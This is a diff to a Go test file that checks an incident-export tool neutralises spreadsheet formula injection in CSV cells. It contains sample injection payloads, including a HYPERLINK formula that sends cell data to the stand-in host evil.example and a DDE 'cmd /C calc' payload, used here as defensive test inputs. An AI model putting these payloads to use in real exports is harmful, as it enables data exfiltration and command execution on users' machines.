@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"strings"
 	"testing"
 	"time"
 
@@ -71,5 +72,47 @@ func TestExport(t *testing.T) {
 	// header + 2 steps of incident 1 + one line each for 2, 3, 4
 	if len(rows) != 6 || rows[1][7] != "On the phone, with a comma" || rows[1][8] != "5000.00" || rows[2][22] != "claimed" {
 		t.Fatalf("csv rows %d: %q", len(rows), rows[:2])
+	}
+}
+
+func TestCellNeutralisesFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(1+1)": "'@SUM(1+1)",
+		"\tnote": "'\tnote", "\r=1": "'\r=1", "": "", "On the phone": "On the phone", "1=1": "1=1", "'quoted": "'quoted",
+	} {
+		if got := Cell(in); got != want {
+			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// Every text column of the CSV is neutralised; numbers stay numbers.
+func TestCSVExportNeutralisesEveryTextCell(t *testing.T) {
+	evil := `=HYPERLINK("http://evil.example","x")`
+	i, _ := incident.FromAlert("=1", envelope.Alert{ID: "m", Type: "alert", AlertID: "+A", Site: "-S", Terminal: "@T",
+		Level: "high", Reasons: []envelope.Reason{{Rule: "r", Text: evil}}, Txn: &envelope.Txn{AmountMinor: -5, Currency: "=C"}}, t0)
+	i.Note, i.Score, i.AmountMinor = "\tnote", -3, -5 // a refund, say
+	steps := []incident.Step{{IncidentID: "=1", At: t0, Actor: "=guard", Action: "+claimed", Detail: "-2+3"}}
+	var b bytes.Buffer
+	if err := WriteCSV(&b, Records([]incident.Incident{i}, steps)); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("rows %q %v", rows, err)
+	}
+	numeric := map[string]bool{"score": true, "amount": true}
+	for n, col := range rows[0] {
+		cell := rows[1][n]
+		if cell == "" || numeric[col] {
+			continue
+		}
+		if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("column %s: %q would run as a formula", col, cell)
+		}
+	}
+	if rows[1][7] != "'"+evil || rows[1][6] != "-3" || rows[1][8] != "-0.05" || rows[1][23] != "'-2+3" {
+		t.Fatalf("reasons %q score %q amount %q detail %q", rows[1][7], rows[1][6], rows[1][8], rows[1][23])
 	}
 }
